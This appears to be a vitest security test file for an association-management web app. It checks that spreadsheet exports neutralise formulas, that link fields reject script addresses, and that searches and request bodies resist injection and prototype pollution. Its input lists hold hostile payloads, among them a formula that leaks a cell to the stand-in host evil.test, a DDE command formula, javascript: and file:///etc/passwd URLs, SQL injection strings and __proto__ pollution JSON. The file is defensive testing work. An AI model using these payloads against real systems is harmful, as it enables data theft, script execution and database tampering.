/** Injection through fields: formulas, active URLs, wildcards, prototype names. */

import { exportAddresses, exportRecipients, startMailing } from '@vigilia/contract/assemblies/convocations';
import { exportAssembly, exportResults } from '@vigilia/contract/assemblies/minutes';
import { CALLS } from '@vigilia/contract/calls';
import { createArticle, listArticles } from '@vigilia/contract/content/articles';
import { createCourse } from '@vigilia/contract/content/courses';
import { createLink, updateLink } from '@vigilia/contract/content/links';
import { newsCalls } from '@vigilia/contract/content/picture-cards';
import { exportReport } from '@vigilia/contract/reports';
import { exportRequests, exportRoll, exportSelectedUsers } from '@vigilia/contract/selection';
import { exportLetterRecipients, sendLetter } from '@vigilia/contract/users/letters';
import { createProfileItem, listProfileItems } from '@vigilia/contract/users/profile';
import { exportProfiles } from '@vigilia/contract/users/profile-files';
import { listRequests, requestRegistration } from '@vigilia/contract/users/registration';
import { importTemplate, previewImport } from '@vigilia/contract/users/user-import';
import { exportUsers, listUsers, updateUser } from '@vigilia/contract/users/users';
import { createQuestion } from '@vigilia/contract/votings/question-edits';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { validRequest } from '../../testing/attack/request-arbitraries.ts';
import { addAttendee, anAssembly, represents } from '../../testing/builders/assemblies.ts';
import { aPicture } from '../../testing/builders/pictures.ts';
import { sheetsOf } from '../../testing/builders/spreadsheets.ts';
import { tableHashes } from '../../testing/comparison/table-hashes.ts';
import { aMailbox } from '../../testing/mailbox.ts';
import { aServer, type TestServer } from '../../testing/server.ts';

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("https://evil.test?"&A1,"x")',
  "=cmd|'/C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  'a";=1+1;"',
  'a\n=1+1',
  'a;=1+1',
  'a\t=1+1',
  '"=1+1"',
  'a,=1+1,b',
  'a, "=1+1,b',
  'a|=1+1|b',
];

/** The cells of a CSV, parsed by the quoting rules alone. */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  const pattern = /(?:"((?:[^"]|"")*)"|([^";\r\n]*))(?:;|\r\n|$)/gy;
  for (const [, quoted, plain] of csv.replace(/^\ufeff/, '').matchAll(pattern))
    cells.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
  return cells;
}

/** Whether Excel, LibreOffice or Numbers would evaluate the cell. */
const computes = (cell: string) =>
  /^[\s\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell) || /^[\t\r]/.test(cell);

/** Minutes have a format too, but no cells. */
type Shape = { readonly format?: { safeParse(value: string): { success: boolean } } };

describe('a formula in a field', () => {
  /** An association in which every text is a formula. */
  async function hostileAssociation(server: TestServer) {
    const as = await server.anAdministrator();
    const assemblyId = await anAssembly(server, as, {
      title: FORMULAS[0] ?? '',
      startDate: '2026-03-02T14:00:00.000Z',
    });
    let questionId = 0;
    for (const [index, formula] of FORMULAS.entries()) {
      const person = await server.aMember({
        name: formula,
        lastName: formula,
        phone: formula.slice(0, 15),
        dni: `${index}${formula}`,
      });
      await server.ask(requestRegistration, {
        body: {
          name: formula,
          lastName: formula,
          email: `formula${index}@evil.test`,
          phone: '3001234567',
          dni: String(900 + index),
          dniType: 1,
          isAnesthesiologist: true,
        },
      });
      await addAttendee(server, as, assemblyId, person);
      const other = await server.aMember({ name: formula, lastName: formula });
      await represents(server, assemblyId, person, other);
      const body = { title: formula, assambleId: assemblyId, peopleToVote: [person.id, other.id] };
      const created = await server.ask(createQuestion, { as, body });
      expect(created.status).toBe(201);
      questionId = created.data.id;
    }
    return { as, assemblyId, questionId };
  }

  it('exports formulas as text in every spreadsheet', async () => {
    const server = await aServer({ config: { SMTP_URL: (await aMailbox()).url } });
    const { as, assemblyId, questionId } = await hostileAssociation(server);
    const mailing = await server.ask(startMailing, {
      as,
      params: { assemblyId },
      body: { subject: 'Convocatoria', text: 'Cordial saludo', audience: 'roll', after: 0 },
    });
    expect(mailing.status).toBe(201);
    const written = { subject: 'Curso', text: 'Cordial saludo' };
    const ids = (await server.ask(listUsers, { as, query: { membersOnly: 'true' } })).data.map(
      ({ id }) => id,
    );
    const letter = await server.ask(sendLetter, { as, body: { ...written, recipients: { ids }, after: 0 } });
    expect(letter.status).toBe(200);
    const everyone = { filters: {}, seen: 0 };
    const exports = [
      [exportUsers, {}],
      [exportSelectedUsers, { body: everyone }],
      [exportRequests, { body: everyone }],
      [exportAssembly, { params: { assemblyId } }],
      [exportRoll, { params: { assemblyId }, body: {} }],
      [exportResults, { params: { id: questionId } }],
      [exportAddresses, { params: { assemblyId }, query: { audience: 'roll' } }],
      [exportRecipients, { params: { assemblyId, mailingId: mailing.data.id } }],
      [exportLetterRecipients, { params: { letterId: letter.data.id } }],
      [exportReport, { query: { report: 'people', year: '2026', attendance: 'unlisted' } }],
      [exportProfiles, {}],
    ] as const;
    for (const [call, how] of exports) {
      const ask = (format: string) =>
        server.ask(call, {
          as,
          ...how,
          ...('body' in how
            ? { body: { ...how.body, format } }
            : { query: { ...('query' in how && how.query), format } }),
        });
      const csv = await ask('csv');
      expect(csv.status).toBe(200);
      const cells = cellsOf(csv.text);
      expect(cells.length).toBeGreaterThan(10);
      expect(cells.filter(computes)).toEqual([]);
      for (const delimiter of [',', '\t', '|'])
        expect(
          csv.text
            .split(delimiter)
            .map((cell) => cell.replace(/^[\s"]*/, ''))
            .filter(computes),
        ).toEqual([]);
      const xlsx = await ask('xlsx');
      const texts = Object.values(sheetsOf(xlsx.bytes))
        .flat(2)
        .filter((cell) => typeof cell === 'string');
      expect(texts.length).toBeGreaterThan(10);
      expect(texts.filter(computes)).toEqual([]);
      const parts = Object.values(unzipSync(xlsx.bytes)).map((part) => strFromU8(part));
      expect(parts.filter((part) => part.includes('<worksheet')).length).toBeGreaterThan(0);
      expect(parts.filter((part) => /<f[ >]/.test(part))).toEqual([]);
    }
  });

  it('tries formulas in every call that exports a spreadsheet', () => {
    const tables = CALLS.filter(
      ({ response, query, body }) =>
        response === 'bytes' &&
        [query, body].some(
          (given) =>
            given && 'shape' in given && (given.shape as Shape).format?.safeParse('xlsx').success === true,
        ),
    );
    expect(tables.map(({ path }) => path).sort()).toEqual(
      [
        exportUsers,
        exportSelectedUsers,
        exportRequests,
        exportAssembly,
        exportRoll,
        exportResults,
        importTemplate,
        exportAddresses,
        exportRecipients,
        exportLetterRecipients,
        exportReport,
        exportProfiles,
      ]
        .map(({ path }) => path)
        .sort(),
    );
  });

  it('imports formulas as text', async () => {
    const server = await aServer();
    const as = await server.anAdministrator();
    const content = 'Nombre;Apellido;Correo Electronico;Celular;Cedula\r\n=1+1;@x;a@b.test;300;77\r\n';
    const file = { name: 'x.csv', type: 'text/csv', content };
    const { data } = await server.ask(previewImport, { as, form: [file] });
    expect(data.rows[0]?.values.name).toBe('=1+1');
  });
});

const RUNNING_ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript\u200b:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://a.test/1',
  'about:blank',
  'intent://x#Intent;end',
  'ftp://a.test',
  '//evil.test',
  '\\\\evil.test',
  '/relative',
  'https:evil',
  'https://',
  'http://a b.test',
  'https://a.test/\u0000',
  'https://a.test/\u0007',
  'https://[::1',
  'view-source:https://a.test',
  'feed:javascript:alert(1)',
];

describe('an address that runs', () => {
  it('refuses script addresses in every address field', async () => {
    const server = await aServer();
    const as = await server.anAdministrator();
    await server.ask(createLink, { as, body: { link: 'News', url: 'https://a.test' } });
    const before = await tableHashes(server.dependencies.database);
    const picture = { name: 'x.jpg', type: 'image/jpeg', content: await aPicture() };
    const day = '2026-03-02T15:00:00.000Z';
    for (const url of RUNNING_ADDRESSES) {
      const course = { name: 'a', description: 'b', startDate: day, endDate: day, price: '0', url };
      const answers = [
        await server.ask(createLink, { as, body: { link: 'Cases', url } }),
        await server.ask(updateLink, { as, params: { id: 1 }, body: { url } }),
        await server.ask(createArticle, { as, body: { name: 'a', url } }),
        await server.ask(createCourse, { as, form: [...Object.entries(course), picture] }),
      ];
      for (const { status, issues } of answers) {
        expect(status, url).toBe(422);
        expect(
          issues.map(({ path }) => path),
          url,
        ).toEqual(['url']);
      }
    }
    expect(await tableHashes(server.dependencies.database)).toEqual(before);
  });

  it('tries script addresses in every call with an address', () => {
    const taking = CALLS.filter(({ body }) => body && 'url' in body.shape).map(({ path }) => path);
    expect(taking.sort()).toEqual(
      [
        ...[
          '/link-url/create',
          '/link-url/edit/:id',
          '/articles/create-article',
          '/articles/update-article/:id',
        ],
        ...['/courses/create', '/courses/update/:id'],
      ].sort(),
    );
  });
});

describe('undeclared fields', () => {
  const CLAIMS = {
    id: 4242,
    userType: 2,
    user_type: 2,
    isAdmin: true,
    role: 'administrator',
    passwordHash: 'x',
    password_hash: 'x',
    sessionCount: 99,
    createdAt: '1999-01-01T00:00:00.000Z',
    created: '1999-01-01T00:00:00.000Z',
    deletedAt: null,
    position: 1,
  };

  it('ignores a user type in a registration request', async () => {
    const server = await aServer();
    const body = { name: 'a', lastName: 'b', email: 'a@b.test', phone: '1', dni: '1', ...CLAIMS };
    const { status, data } = await server.ask(requestRegistration, { body });
    expect(status).toBe(201);
    expect(data.id).not.toBe(CLAIMS.id);
    const as = await server.anAdministrator();
    const { data: requests } = await server.ask(listRequests, { as });
    expect(requests).toHaveLength(1);
    expect(requests[0]).toMatchObject({ id: data.id, email: 'a@b.test' });
    expect(requests[0]?.date).not.toBe(CLAIMS.createdAt);
    const users = await server.dependencies.database.read.selectFrom('users').select('id').execute();
    expect(users).toHaveLength(1);
  });

  it('ignores fields that a call does not declare', async () => {
    const server = await aServer();
    const as = await server.anAdministrator();
    const member = await server.aMember();
    const { id: _, userType: __, user_type: ___, ...claims } = CLAIMS;
    const body = { name: 'Otra', ...claims };
    expect((await server.ask(updateUser, { as, params: { id: member.id }, body })).status).toBe(200);
    const row = await server.dependencies.database.read
      .selectFrom('users')
      .selectAll()
      .where('id', '=', member.id)
      .executeTakeFirstOrThrow();
    expect(row).toMatchObject({ name: 'Otra', user_type: 1, session_count: 0, email: member.email });
    expect(row.password_hash).toMatch(/^\$argon2id/);
    expect(row.created_at).not.toBe(CLAIMS.createdAt);
    const form = [
      ...Object.entries({ title: 'a', description: 'b', ...CLAIMS }).map(
        ([name, value]) => [name, String(value)] as const,
      ),
      { name: 'x.jpg', type: 'image/jpeg', content: await aPicture() },
    ];
    const { data } = await server.ask(newsCalls.create, { as, form });
    expect(data.id).not.toBe(CLAIMS.id);
  });

  it('returns no undeclared fields', async () => {
    const server = await aServer();
    const as = await server.anAdministrator();
    const { data, text } = await server.ask(createArticle, {
      as,
      body: { name: 'a', url: 'https://a.test', ...CLAIMS },
    });
    expect(Object.keys(data).sort()).toEqual(['id', 'name', 'url', 'version']);
    expect(text).not.toContain('administrator');
  });
});

describe('a search', () => {
  const WILD = [
    '%',
    '_',
    '\\',
    '%%%',
    '%a%',
    '_a_',
    "'",
    "' or '1'='1",
    '"',
    ';',
    '--',
    '/*',
    '\\%',
    '[a]',
    '*',
    '?',
  ];

  it('treats wildcards and quotes in a search as text', async () => {
    const server = await aServer();
    const as = await server.anAdministrator({ name: 'Quien', lastName: 'Busca' });
    await server.aMember({ name: 'Ana', lastName: 'Ruiz', email: 'ana@b.test', dni: '1' });
    const odd = await server.aMember({ name: 'A%_\\', lastName: "d'Oro", email: 'odd@b.test', dni: '2' });
    const found = async (name: string) => {
      const { status, data } = await server.ask(listUsers, { as, query: { name } });
      expect(status, name).toBe(200);
      return data.map(({ id }) => id);
    };
    for (const name of WILD)
      expect(
        (await found(name)).filter((id) => id !== odd.id),
        name,
      ).toEqual([]);
    for (const name of ['%', '_', '\\', "'", '%_\\', 'a%']) expect(await found(name), name).toEqual([odd.id]);
  });

  it('sorts and filters only by declared columns', async () => {
    const server = await aServer();
    const as = await server.anAdministrator();
    for (const sort of [
      'password_hash',
      'id; drop table users',
      '1',
      'session_count',
      '__proto__',
      'constructor',
    ])
      expect((await server.ask(listUsers, { as, query: { sort } })).status, sort).toBe(422);
    expect((await server.ask(listUsers, { as })).data).toHaveLength(1);
  });

  it('reads each row once for the worst search pattern', async () => {
    const server = await aServer();
    const as = await server.anAdministrator();
    const picture = { name: 'x.jpg', type: 'image/jpeg', content: await aPicture() };
    await server.ask(newsCalls.create, {
      as,
      form: [['title', 'a'], ['description', 'a'.repeat(10_000)], picture],
    });
    // With active wildcards, each of these would backtrack over every split of the text.
    for (const keyword of ['%a'.repeat(99), '_%'.repeat(99), `${'a%'.repeat(99)}b`])
      expect((await server.ask(newsCalls.list, { as, query: { keyword } })).data).toEqual([]);
    const long = `${'a.'.repeat(100_000)}@${'a-'.repeat(100_000)}`;
    expect((await server.ask(requestRegistration, { body: { email: long } })).status).toBe(413);
  });
});

it('treats names of object internals as normal names', async () => {
  const server = await aServer();
  const as = await server.anAdministrator();
  for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
    const body = { name, url: 'https://a.test' };
    expect((await server.ask(createArticle, { as, body })).data).toMatchObject(body);
    expect((await server.ask(createProfileItem, { as, body: { name, categoryId: 1 } })).status).toBe(201);
  }
  expect((await server.ask(listArticles, { as })).data).toHaveLength(4);
  expect((await server.ask(listProfileItems, { as })).data).toHaveLength(4);
  for (const call of CALLS.filter(({ body }) => body)) {
    const [request] = fc.sample(validRequest(call), { numRuns: 1, seed: 6 });
    for (const payload of [
      '{"__proto__":{"polluted":true}}',
      '{"constructor":{"prototype":{"polluted":true}}}',
    ])
      await server.app.inject({
        method: call.method,
        url: request?.url ?? '',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${as.token}` },
        payload,
      });
  }
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
});
